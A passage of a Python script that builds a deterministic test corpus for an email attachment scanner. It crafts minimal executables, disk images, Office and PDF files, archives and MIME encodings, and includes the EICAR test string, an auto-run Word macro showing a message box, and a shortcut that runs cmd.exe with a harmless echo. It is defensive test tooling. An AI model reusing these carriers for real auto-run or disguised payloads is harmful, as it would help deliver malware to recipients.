#!/usr/bin/env python3
"""Generate the sluice test corpus: tests/data/email/*.eml + *.expect and
tests/data/payloads/*.

Everything is written by this script, deterministically: fixed dates,
boundaries, Message-IDs, zip timestamps, no randomness.  Run it from anywhere:

    python3 tests/data/gen_corpus.py          # (re)writes the corpus
    python3 tests/data/gen_corpus.py --check  # exit 1 if a checked-in file differs

The crafted file formats (PE, ELF, Mach-O, LNK, ISO 9660, VHD, VHDX, OneNote,
TNEF, OLE2/CFB, OOXML, PDF, PNG, zip incl. ZipCrypto) are written by small
writers below, just valid enough for libmagic and ClamAV to recognise them.
See tests/data/email/README.md for the .expect format and the case list.
"""

import base64
import binascii
import hashlib
import os
import struct
import sys
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
EMAIL_DIR = os.path.join(HERE, "email")
PAYLOAD_DIR = os.path.join(HERE, "payloads")

# The EICAR anti-virus test file (a public standard test string).
EICAR = (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")
assert len(EICAR) == 68

ZIP_DATE = (2024, 3, 4, 9, 15, 0)


# --------------------------------------------------------------------------
# small binary format writers
# --------------------------------------------------------------------------

def make_pe():
    """A minimal PE32 GUI executable (i386, one .text section with `ret`)."""
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    struct.pack_into("<H", dos, 2, 0x90)          # bytes on last page
    struct.pack_into("<H", dos, 4, 3)             # pages
    struct.pack_into("<H", dos, 8, 4)             # header paragraphs
    struct.pack_into("<H", dos, 0x18, 0x40)       # e_lfarlc
    struct.pack_into("<I", dos, 0x3C, 0x80)       # e_lfanew
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21" \
           b"This program cannot be run in DOS mode.\r\r\n$"
    dos[0x40:0x40 + len(stub)] = stub
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 1, 0x65E59000, 0, 0, 0xE0, 0x0102)
    opt = struct.pack("<HBBIIIIIIIIIHHHHHHIIIIHHIIIIII",
                      0x10B, 14, 0,          # magic, linker version
                      0x200, 0, 0,           # size of code, init data, uninit
                      0x1000, 0x1000, 0x2000,  # entry, base of code, base of data
                      0x400000, 0x1000, 0x200,  # image base, section/file align
                      6, 0, 0, 0, 6, 0,       # os, image, subsystem versions
                      0,                      # win32 version
                      0x2000, 0x200, 0,       # size of image, headers, checksum
                      2, 0x8140,              # subsystem GUI, dll characteristics
                      0x100000, 0x1000, 0x100000, 0x1000, 0, 16)
    opt += b"\0" * (16 * 8)
    assert len(opt) == 0xE0
    sect = struct.pack("<8sIIIIIIHHI", b".text", 0x10, 0x1000, 0x200, 0x200,
                       0, 0, 0, 0, 0x60000020)
    hdr = bytes(dos) + coff + opt + sect
    hdr += b"\0" * (0x200 - len(hdr))
    code = b"\x31\xc0\xc3" + b"\0" * (0x200 - 3)
    return hdr + code


def make_elf():
    """A minimal static x86-64 ELF executable: exit(0)."""
    code = b"\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05"  # xor edi,edi; mov eax,60; syscall
    base = 0x400000
    entry = base + 64 + 56
    ehdr = b"\x7fELF" + bytes([2, 1, 1, 0]) + b"\0" * 8
    ehdr += struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, entry, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    size = 64 + 56 + len(code)
    phdr = struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, 0x1000)
    return ehdr + phdr + code


def make_macho():
    """A minimal 64-bit Mach-O x86_64 executable header with one LC_UNIXTHREAD-free
    segment command (__PAGEZERO)."""
    seg = struct.pack("<II16sQQQQIIII", 0x19, 72, b"__PAGEZERO", 0, 0x100000000, 0, 0, 0, 0, 0, 0)
    hdr = struct.pack("<IiiIIII", 0xFEEDFACF, 0x01000007, 3, 2, 1, len(seg), 0x00200085)
    hdr += struct.pack("<I", 0)  # reserved
    data = hdr + seg
    return data + b"\0" * (4096 - len(data))


def make_lnk():
    """A Windows shell link: 76-byte header + relative path + arguments (unicode)."""
    flags = 0x08 | 0x20 | 0x80  # HasRelativePath | HasArguments | IsUnicode
    ft = struct.pack("<Q", 133540000000000000)
    hdr = struct.pack("<I16sII", 0x4C,
                      bytes.fromhex("0114020000000000c000000000000046"), flags, 0x20)
    hdr += ft + ft + ft + struct.pack("<IiIHHII", 0, 0, 1, 0, 0, 0, 0)
    assert len(hdr) == 76

    def sd(s):
        return struct.pack("<H", len(s)) + s.encode("utf-16-le")
    body = sd("..\\..\\..\\Windows\\System32\\cmd.exe")
    body += sd("/c echo sluice test shortcut")
    return hdr + body + b"\0\0\0\0"


def both16(v):
    return struct.pack("<H", v) + struct.pack(">H", v)


def both32(v):
    return struct.pack("<I", v) + struct.pack(">I", v)


def make_iso(volume=b"SLUICE_TEST"):
    """32 KiB system area, an ISO 9660 primary volume descriptor at 32768, a
    set terminator, and a root directory record."""
    blocks = 20
    pvd = bytearray(2048)
    pvd[0] = 1
    pvd[1:6] = b"CD001"
    pvd[6] = 1
    pvd[8:40] = b"LINUX".ljust(32)
    pvd[40:72] = volume.ljust(32)
    pvd[80:88] = both32(blocks)
    pvd[120:124] = both16(1)
    pvd[124:128] = both16(1)
    pvd[128:132] = both16(2048)
    pvd[132:140] = both32(10)
    pvd[140:144] = struct.pack("<I", 18)
    pvd[148:152] = struct.pack(">I", 19)
    root = bytearray(34)
    root[0] = 34
    root[2:10] = both32(20 - 2)
    root[10:18] = both32(2048)
    root[18:25] = bytes([124, 3, 4, 9, 15, 0, 4])
    root[25] = 2
    root[28:32] = both16(1)
    root[32] = 1
    pvd[156:190] = root
    pvd[190:318] = b" " * 128
    pvd[318:446] = b" " * 128
    pvd[446:574] = b" " * 128
    pvd[574:702] = b" " * 128
    pvd[702:813] = b" " * 111
    pvd[813:830] = b"2024030409150000\x04"
    pvd[830:847] = b"2024030409150000\x04"
    pvd[847:864] = b"0" * 16 + b"\0"
    pvd[864:881] = b"0" * 16 + b"\0"
    pvd[881] = 1
    term = bytearray(2048)
    term[0] = 255
    term[1:6] = b"CD001"
    term[6] = 1
    data = b"\0" * 32768 + bytes(pvd) + bytes(term)
    data += b"\0" * (blocks * 2048 - len(data))
    return data


def vhd_footer(size, disk_type, data_offset):
    f = bytearray(512)
    f[0:8] = b"conectix"
    struct.pack_into(">II", f, 8, 2, 0x00010000)
    struct.pack_into(">Q", f, 16, data_offset)
    struct.pack_into(">I", f, 24, 762776100)
    f[28:32] = b"slce"
    struct.pack_into(">I", f, 32, 0x00010000)
    f[36:40] = b"Wi2k"
    struct.pack_into(">QQ", f, 40, size, size)
    struct.pack_into(">HBB", f, 56, 16, 4, 17)
    struct.pack_into(">I", f, 60, disk_type)
    f[68:84] = bytes(range(0x10, 0x20))
    csum = (~sum(f)) & 0xFFFFFFFF
    struct.pack_into(">I", f, 64, csum)
    return bytes(f)


def make_vhd():
    """A dynamic VHD: footer copy, 'cxsparse' header, one-entry BAT, footer."""
    foot = vhd_footer(2 * 1024 * 1024, 3, 512)
    dyn = bytearray(1024)
    dyn[0:8] = b"cxsparse"
    struct.pack_into(">QQIII", dyn, 8, 0xFFFFFFFFFFFFFFFF, 1536, 0x00010000, 1, 2 * 1024 * 1024)
    csum = (~sum(dyn)) & 0xFFFFFFFF
    struct.pack_into(">I", dyn, 36, csum)
    bat = b"\xff\xff\xff\xff" * 128
    return foot + bytes(dyn) + bat + foot


def make_vhdx():
    """'vhdxfile' identifier + creator, two 'head' headers at 64/128 KiB, two
    'regi' region tables at 192/256 KiB (zeros elsewhere)."""
    data = bytearray(0x40000 + 4096)
    ident = b"vhdxfile" + "sluice corpus".encode("utf-16-le")
    data[0:len(ident)] = ident
    for i, off in enumerate((0x10000, 0x20000)):
        data[off:off + 4] = b"head"
        struct.pack_into("<IQ", data, off + 4, 0, i + 1)
    for off in (0x30000, 0x40000):
        data[off:off + 4] = b"regi"
    return bytes(data)


def make_onenote():
    """OneNote revision store header GUID followed by filler and text."""
    guid = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
    file_format = bytes.fromhex("3fdd9a109d1b1d43a5b70fd1b4a0d8e1")
    data = guid + b"\0" * 16 + file_format + b"\0" * 16
    data += struct.pack("<IIII", 0x2A, 0x2A, 0x2A, 0x2A)
    data += b"\xff" * 8
    data += "Double click to view the document".encode("utf-16-le")
    return data + b"\0" * (1024 - len(data))


def tnef(attachments, key=0x5A31):
    """TNEF (winmail.dat) with a message class and file attachments."""
    out = bytearray(struct.pack("<IH", 0x223E9F78, key))

    def attr(level, aid, data):
        out.extend(struct.pack("<BII", level, aid, len(data)))
        out.extend(data)
        out.extend(struct.pack("<H", sum(data) & 0xFFFF))
    attr(1, 0x00089006, struct.pack("<I", 0x00010000))            # attTnefVersion
    attr(1, 0x00069007, struct.pack("<II", 1252, 0))              # attOemCodepage
    attr(1, 0x00078008, b"IPM.Microsoft Mail.Note\0")             # attMessageClass
    for name, data in attachments:
        attr(2, 0x00069002, struct.pack("<HIHHI", 1, 0xFFFFFFFF, 0, 0, 0))  # attAttachRenddata
        attr(2, 0x00018010, name.encode("latin-1") + b"\0")         # attAttachTitle
        attr(2, 0x00038013, struct.pack("<7H", 2024, 3, 4, 9, 15, 0, 1))  # attAttachModifyDate
        attr(2, 0x0006800F, data)                                  # attAttachData
    return bytes(out)


# ---- OLE2 / Compound File Binary ------------------------------------------

ENDOFCHAIN, FREESECT, FATSECT, NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF


def cfb(tree, root_clsid=b"\0" * 16):
    """Write a version-3 compound file.  tree: dict name -> bytes (stream) or
    dict (storage).  Streams under 4096 bytes go to the mini stream (64-byte
    mini sectors, one mini FAT), larger ones to regular 512-byte sectors."""
    entries = []   # [name, type, clsid, data, children(list of idx)]

    def add(name, node, clsid=b"\0" * 16):
        idx = len(entries)
        if isinstance(node, dict):
            entries.append([name, 1, clsid, None, []])
            kids = [add(k, v) for k, v in node.items()]
            entries[idx][4] = kids
        else:
            entries.append([name, 2, clsid, node, []])
        return idx
    root = add("Root Entry", tree, root_clsid)
    entries[root][1] = 5

    sectors, fat = [], []

    def put_chain(data, marker=None):
        """Append data as a chain of regular sectors; returns first sector."""
        n = max(1, (len(data) + 511) // 512)
        first = len(sectors)
        for i in range(n):
            chunk = data[i * 512:(i + 1) * 512]
            sectors.append(chunk + b"\0" * (512 - len(chunk)))
            fat.append(marker if marker is not None else
                       (len(sectors) if i + 1 < n else ENDOFCHAIN))
        return first

    sectors.append(None)          # sector 0: the FAT itself
    fat.append(FATSECT)
    starts = {}
    mini = bytearray()
    minifat = []
    for idx, e in enumerate(entries):
        if e[1] != 2:
            continue
        data = e[3]
        if len(data) >= 4096:
            starts[idx] = put_chain(data)
        else:
            n = max(1, (len(data) + 63) // 64)
            starts[idx] = len(mini) // 64
            mini += data + b"\0" * (n * 64 - len(data))
            for i in range(n):
                minifat.append(len(minifat) + 1 if i + 1 < n else ENDOFCHAIN)
    root_start, minifat_start, n_minifat = ENDOFCHAIN, ENDOFCHAIN, 0
    if mini:
        root_start = put_chain(bytes(mini))
        mf = minifat + [FREESECT] * (-len(minifat) % 128)
        n_minifat = len(mf) // 128
        minifat_start = put_chain(struct.pack("<%dI" % len(mf), *mf))

    def key(idx):
        n = entries[idx][0]
        return (len(n), n.upper())
    right, child = {}, {}
    for idx, e in enumerate(entries):
        kids = sorted(e[4], key=key)
        child[idx] = kids[0] if kids else NOSTREAM
        for a, b in zip(kids, kids[1:]):
            right[a] = b
    raw = bytearray()
    for idx, (name, typ, clsid, data, kids) in enumerate(entries):
        ent = bytearray(128)
        nm = name.encode("utf-16-le") + b"\0\0"
        ent[0:len(nm)] = nm
        struct.pack_into("<HBB", ent, 64, len(nm), typ, 1)
        struct.pack_into("<III", ent, 68, NOSTREAM, right.get(idx, NOSTREAM), child[idx])
        ent[80:96] = clsid
        if typ == 2:
            struct.pack_into("<IQ", ent, 116, starts[idx], len(data))
        elif typ == 5:
            struct.pack_into("<IQ", ent, 116, root_start, len(mini))
        raw += ent
    while len(raw) % 512:
        ent = bytearray(128)
        struct.pack_into("<III", ent, 68, NOSTREAM, NOSTREAM, NOSTREAM)
        raw += ent
    dir_start = put_chain(bytes(raw))
    assert len(fat) <= 128, "one FAT sector only"
    fat += [FREESECT] * (128 - len(fat))
    sectors[0] = struct.pack("<128I", *fat)

    hdr = bytearray(512)
    hdr[0:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    struct.pack_into("<HHHHH", hdr, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", hdr, 40, 0, 1, dir_start, 0, 4096,
                     minifat_start, n_minifat, ENDOFCHAIN, 0)
    struct.pack_into("<109I", hdr, 76, *([0] + [FREESECT] * 108))
    return bytes(hdr) + b"".join(sectors)


def ovba_compress(data):
    """MS-OVBA CompressedContainer using literal tokens only (valid, not small)."""
    out = bytearray(b"\x01")
    for c in range(0, max(len(data), 1), 4096):
        chunk = data[c:c + 4096]
        body = bytearray()
        for i in range(0, len(chunk), 8):
            body += b"\x00" + chunk[i:i + 8]
        out += struct.pack("<H", (len(body) + 2 - 3) | 0x3000 | 0x8000) + body
    return bytes(out)


def vba_dir(modules):
    """The VBA 'dir' stream (MS-OVBA 2.3.4.2), uncompressed form."""
    def rec(rid, data):
        return struct.pack("<HI", rid, len(data)) + data
    d = rec(1, struct.pack("<I", 1)) + rec(2, struct.pack("<I", 0x409))
    d += rec(0x14, struct.pack("<I", 0x409)) + rec(3, struct.pack("<H", 1252))
    d += rec(4, b"Project") + rec(5, b"") + rec(0x40, b"") + rec(6, b"") + rec(0x3D, b"")
    d += rec(7, struct.pack("<I", 0)) + rec(8, struct.pack("<I", 0))
    d += struct.pack("<HIIH", 9, 4, 1, 0)           # PROJECTVERSION
    d += rec(0x0C, b"") + rec(0x3C, b"")
    d += rec(0x0F, struct.pack("<H", len(modules))) + rec(0x13, struct.pack("<H", 0xFFFF))
    for name, doc in modules:
        n = name.encode("latin-1")
        u = name.encode("utf-16-le")
        d += rec(0x19, n) + rec(0x47, u) + rec(0x1A, n) + rec(0x32, u)
        d += rec(0x1C, b"") + rec(0x48, b"") + rec(0x31, struct.pack("<I", 0))
        d += rec(0x1E, struct.pack("<I", 0)) + rec(0x2C, struct.pack("<H", 0xFFFF))
        d += rec(0x22 if doc else 0x21, b"") + rec(0x2B, b"")
    d += rec(0x10, b"")
    return d


def summary_info(title):
    """A tiny \\x05SummaryInformation property set holding only PIDSI_TITLE."""
    fmtid = bytes.fromhex("e0859ff2f94f6810ab9108002b27b3d9")
    t = title.encode("latin-1") + b"\0"
    prop = struct.pack("<II", 0x1E, len(t)) + t + b"\0" * (-len(t) % 4)   # VT_LPSTR
    section = struct.pack("<IIII", 16 + len(prop), 1, 2, 16) + prop
    hdr = struct.pack("<HHI16sI", 0xFFFE, 0, 0x00020006, b"\0" * 16, 1) + fmtid + struct.pack("<I", 48)
    return hdr + section


def vba_project_cfb(with_word=True):
    """An OLE2 file holding a VBA project with one document module whose
    AutoOpen shows a message box: Macros/VBA/{_VBA_PROJECT,dir,ThisDocument}
    + Macros/PROJECT in a Word 97 .doc, or VBA/... + PROJECT at the root of a
    vbaProject.bin (for .docm)."""
    src = (b'Attribute VB_Name = "ThisDocument"\r\n'
           b'Sub AutoOpen()\r\n    MsgBox "sluice corpus test macro"\r\nEnd Sub\r\n')
    vba = {
        "_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
        "dir": ovba_compress(vba_dir([("ThisDocument", True)])),
        "ThisDocument": ovba_compress(src),
    }
    project = (b'ID="{00000000-0000-0000-0000-000000000000}"\r\n'
               b'Document=ThisDocument/&H00000000\r\nName="Project"\r\n')
    if with_word:
        tree = {
            "WordDocument": b"\xec\xa5\xc1\x00" + b"\0" * 508,
            "1Table": b"\0" * 64,
            "\x05SummaryInformation": summary_info("Objednavka"),
            "Macros": {"VBA": vba, "PROJECT": project},
        }
        return cfb(tree, bytes.fromhex("0609020000000000c000000000000046"))
    return cfb({"VBA": vba, "PROJECT": project})


def make_msi():
    """An OLE2 file with the Windows Installer root CLSID and a couple of
    streams."""
    tree = {
        "\x05SummaryInformation": summary_info("Installation Database"),
        "\u4840\u3b3f\u43f2\u4438\u45b1": b"fake string pool",   # encoded table name
        "\u4840\u3f7f\u4164\u422f\u4836": b"fake table data",
    }
    return cfb(tree, bytes.fromhex("84100c0000000000c000000000000046"))


# ---- zip -------------------------------------------------------------------

def _dos_time(dt):
    y, mo, d, h, mi, s = dt
    return ((h << 11) | (mi << 5) | (s // 2)), (((y - 1980) << 9) | (mo << 5) | d)


def _crc_table():
    t = []
    for n in range(256):
        c = n
        for _ in range(8):
            c = (0xEDB88320 ^ (c >> 1)) if c & 1 else (c >> 1)
        t.append(c)
    return t


CRC_TABLE = _crc_table()


def zipcrypto_encrypt(data, password, crc):
    k = [0x12345678, 0x23456789, 0x34567890]

    def upd(c):
        k[0] = (k[0] >> 8) ^ CRC_TABLE[(k[0] ^ c) & 0xFF]
        k[1] = ((k[1] + (k[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        k[2] = (k[2] >> 8) ^ CRC_TABLE[(k[2] ^ (k[1] >> 24)) & 0xFF]
    for c in password:
        upd(c)
    header = bytes(range(0x31, 0x31 + 11)) + bytes([(crc >> 24) & 0xFF])
    out = bytearray()
    for p in header + data:
        t = (k[2] | 2) & 0xFFFF
        out.append(p ^ (((t * (t ^ 1)) >> 8) & 0xFF))
        upd(p)
    return bytes(out)


def make_zip(members, deflate=True, password=None):
    """members: list of (name, bytes).  Deterministic zip (fixed timestamps).
    With password: traditional PKWARE (ZipCrypto) encryption, stored."""
    local = bytearray()
    central = bytearray()
    t, d = _dos_time(ZIP_DATE)
    for name, data in members:
        nm = name.encode("utf-8")
        crc = zlib.crc32(data) & 0xFFFFFFFF
        flags = 0x800 if any(b > 127 for b in nm) else 0
        if password is not None:
            method, comp = 0, zipcrypto_encrypt(data, password, crc)
            flags |= 1
        elif deflate:
            co = zlib.compressobj(9, zlib.DEFLATED, -15)
            method, comp = 8, co.compress(data) + co.flush()
        else:
            method, comp = 0, data
        off = len(local)
        local += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, method, t, d,
                             crc, len(comp), len(data), len(nm), 0) + nm + comp
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 20, flags, method,
                               t, d, crc, len(comp), len(data), len(nm), 0, 0, 0, 0,
                               0o100644 << 16, off) + nm
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members),
                       len(central), len(local), 0)
    return bytes(local + central + eocd)


CT_HDR = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def make_docx(text, macro=False):
    main_ct = ("application/vnd.ms-word.document.macroEnabled.main+xml" if macro else
               "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")
    ct = (CT_HDR + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          + ('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if macro else '')
          + '<Override PartName="/word/document.xml" ContentType="%s"/></Types>' % main_ct)
    rels = (CT_HDR + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
            '</Relationships>')
    doc = (CT_HDR + '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
           '<w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>' % text)
    members = [("[Content_Types].xml", ct.encode()), ("_rels/.rels", rels.encode()),
               ("word/document.xml", doc.encode())]
    if macro:
        drels = (CT_HDR + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
                 '</Relationships>')
        members += [("word/_rels/document.xml.rels", drels.encode()),
                    ("word/vbaProject.bin", vba_project_cfb(with_word=False))]
    return make_zip(members)


def make_pdf(lines):
    """A small valid one-page PDF with the given text lines (ASCII)."""
    content = b"BT /F1 12 Tf 72 750 Td 14 TL\n"
    for ln in lines:
        esc = ln.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        content += b"(" + esc.encode("latin-1") + b") Tj T*\n"
    content += b"ET\n"
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"endstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    return pdf_file(objs)


def pdf_file(objs, version=b"1.4"):
    """A PDF of these objects (1 0 obj is the catalog), with its xref table."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for o in offs:
        out += b"%010d 00000 n \n" % o
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)


def make_pdf_embedded(lines, fname, data):
    """make_pdf plus one embedded file (a /Filespec in the /EmbeddedFiles name
    tree, its bytes an uncompressed /EmbeddedFile stream)."""
    content = b"BT /F1 12 Tf 72 750 Td 14 TL\n"
    for ln in lines:
        content += b"(" + ln.encode("latin-1") + b") Tj T*\n"
    content += b"ET\n"
    fn = fname.encode("latin-1")
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(" + fn + b") 6 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"endstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /Filespec /F (" + fn + b") /UF (" + fn + b") /EF << /F 7 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(data) + data + b"\nendstream",
    ]
    return pdf_file(objs, b"1.7")


def ole_package(label, path, data):
    """An OLE Package object's native data (the \\x01Ole10Native stream): what
    Word stores when a file is dragged into a document."""
    lab, pth = label.encode("latin-1"), path.encode("latin-1")
    body = (b"\x02\x00" + lab + b"\0" + pth + b"\0" + b"\x00\x00\x03\x00"
            + struct.pack("<I", len(pth) + 1) + pth + b"\0" + struct.pack("<I", len(data)) + data)
    return struct.pack("<I", len(body)) + body


def make_doc_package(label, data):
    """A Word 97 file (just enough streams) whose ObjectPool holds one
    embedded Package object carrying `data` under the name `label`."""
    compobj = (b"\x01\x00\xfe\xff\x03\x0a\x00\x00\xff\xff\xff\xff" + bytes.fromhex(
        "0c00030000000000c000000000000046") + struct.pack("<I", 8) + b"Package\0"
        + struct.pack("<I", 8) + b"Package\0" + struct.pack("<I", 0))
    tree = {
        "WordDocument": b"\xec\xa5\xc1\x00" + b"\0" * 508,
        "1Table": b"\0" * 512,
        "\x05SummaryInformation": summary_info("Rechnung"),
        "ObjectPool": {"_1709542500": {
            "\x01CompObj": compobj,
            "\x01Ole10Native": ole_package(label, "C:\\Users\\kunde\\Desktop\\" + label, data)}},
    }
    return cfb(tree, bytes.fromhex("0609020000000000c000000000000046"))


def make_docx_with(text, extra_members):
    """make_docx plus more members, e.g. ("word/embeddings/oleObject1.bin", ...)."""
    import io
    import zipfile
    base = make_docx(text)
    members = []
    with zipfile.ZipFile(io.BytesIO(base)) as z:
        for n in z.namelist():
            members.append((n, z.read(n)))
    return make_zip(members + list(extra_members))


def make_tar(members):
    """A deterministic ustar archive of (name, bytes)."""
    import io
    import tarfile
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size, ti.mtime, ti.mode = len(data), 1709542500, 0o755
            ti.uname = ti.gname = "kunde"
            t.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def zstd_frame(data):
    """A Zstandard frame holding data in raw (stored) blocks."""
    out = bytearray(b"\x28\xb5\x2f\xfd" + b"\xa0" + struct.pack("<I", len(data)))
    for i in range(0, max(len(data), 1), 1 << 17):
        chunk = data[i:i + (1 << 17)]
        last = 1 if i + (1 << 17) >= len(data) else 0
        out += struct.pack("<I", last | (len(chunk) << 3))[:3] + chunk
    return bytes(out)


def _xxh32(data, seed=0):
    P1, P2, P3, P4, P5 = 2654435761, 2246822519, 3266489917, 668265263, 374761393
    M = 0xFFFFFFFF

    def rotl(x, r):
        return ((x << r) | (x >> (32 - r))) & M
    n, i = len(data), 0
    if n >= 16:
        v = [(seed + P1 + P2) & M, (seed + P2) & M, seed, (seed - P1) & M]
        while i + 16 <= n:
            for k in range(4):
                v[k] = (rotl((v[k] + struct.unpack_from("<I", data, i + 4 * k)[0] * P2) & M, 13) * P1) & M
            i += 16
        h = (rotl(v[0], 1) + rotl(v[1], 7) + rotl(v[2], 12) + rotl(v[3], 18)) & M
    else:
        h = (seed + P5) & M
    h = (h + n) & M
    while i + 4 <= n:
        h = (rotl((h + struct.unpack_from("<I", data, i)[0] * P3) & M, 17) * P4) & M
        i += 4
    while i < n:
        h = (rotl((h + data[i] * P5) & M, 11) * P1) & M
        i += 1
    h ^= h >> 15
    h = (h * P2) & M
    h ^= h >> 13
    h = (h * P3) & M
    return h ^ (h >> 16)


def lz4_frame(data):
    """An LZ4 frame holding data in uncompressed blocks (64 KiB at most each)."""
    desc = b"\x60\x40"
    out = bytearray(b"\x04\x22\x4d\x18" + desc + bytes([(_xxh32(desc) >> 8) & 0xFF]))
    for i in range(0, len(data), 1 << 16):
        chunk = data[i:i + (1 << 16)]
        out += struct.pack("<I", len(chunk) | 0x80000000) + chunk
    return bytes(out + b"\0\0\0\0")


def lzip_member(data):
    """An lzip member: header, raw LZMA stream (with end marker), trailer."""
    import lzma
    stream = lzma.compress(data, format=lzma.FORMAT_RAW, filters=[{
        "id": lzma.FILTER_LZMA1, "dict_size": 1 << 16, "lc": 3, "lp": 0, "pb": 2}])
    member = b"LZIP\x01\x10" + stream
    return member + struct.pack("<IQQ", zlib.crc32(data) & 0xFFFFFFFF, len(data), len(member) + 20)


def xz_stream(data):
    import lzma
    return lzma.compress(data, format=lzma.FORMAT_XZ, check=lzma.CHECK_CRC64)


def mbox_with(name, data):
    """A one-message mbox whose message carries `data` as a base64 attachment."""
    msg = (b"From kunde@kunde.example Mon Mar  4 09:15:00 2024\n"
           b"From: kunde@kunde.example\nTo: kundenservice@contact-center.example\n"
           b"Subject: Belege\nMIME-Version: 1.0\n"
           b'Content-Type: multipart/mixed; boundary="=_mbox_inner"\n\n'
           b"--=_mbox_inner\nContent-Type: text/plain; charset=utf-8\n\nBelege anbei.\n"
           b"--=_mbox_inner\nContent-Type: application/octet-stream; name=\"" + name.encode() + b"\"\n"
           b"Content-Disposition: attachment; filename=\"" + name.encode() + b"\"\n"
           b"Content-Transfer-Encoding: base64\n\n" + b64(data) + b"--=_mbox_inner--\n")
    return msg


def make_png(w=24, h=24):
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)
    raw = b""
    for y in range(h):
        raw += b"\0" + b"".join(bytes([(x * 10) & 255, (y * 10) & 255, 0x80]) for x in range(w))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


def make_csv(target):
    names = ["Novák", "Müller", "García", "Dubois", "Kowalski", "Tanaka", "Silva", "Rossi"]
    rows = ["id;date;customer;order;amount_eur;status"]
    size = len(rows[0]) + 1
    i = 0
    while size < target:
        row = "%07d;2024-%02d-%02d;%s;ORD-%06d;%d.%02d;%s" % (
            i, i % 12 + 1, i % 28 + 1, names[i % 8], (i * 7919) % 1000000,
            (i * 37) % 5000, i % 100, ("open", "shipped", "delivered", "returned")[i % 4])
        rows.append(row)
        size += len(row.encode()) + 1
        i += 1
    return ("\r\n".join(rows) + "\r\n").encode("utf-8")


# --------------------------------------------------------------------------
# message building
# --------------------------------------------------------------------------

def b64(data):
    s = base64.b64encode(data)
    return b"\n".join(s[i:i + 76] for i in range(0, len(s), 76)) + b"\n"


def qp_all(data, force=b"-!$@[\\]^{}"):
    """Quoted-printable that also encodes the bytes in `force` (legal in QP)."""
    out, line = [], b""
    for c in data:
        ch = bytes([c])
        if c == 0x0A:
            out.append(line)
            line = b""
            continue
        if c == 0x3D or c > 126 or (c < 32 and c != 9) or ch in force:
            tok = b"=%02X" % c
        else:
            tok = ch
        if len(line) + len(tok) > 75:
            out.append(line + b"=")
            line = b""
        line += tok
    out.append(line)
    return b"\n".join(out) + b"\n"


def uuencode(name, data):
    out = b"begin 644 " + name.encode() + b"\n"
    for i in range(0, len(data), 45):
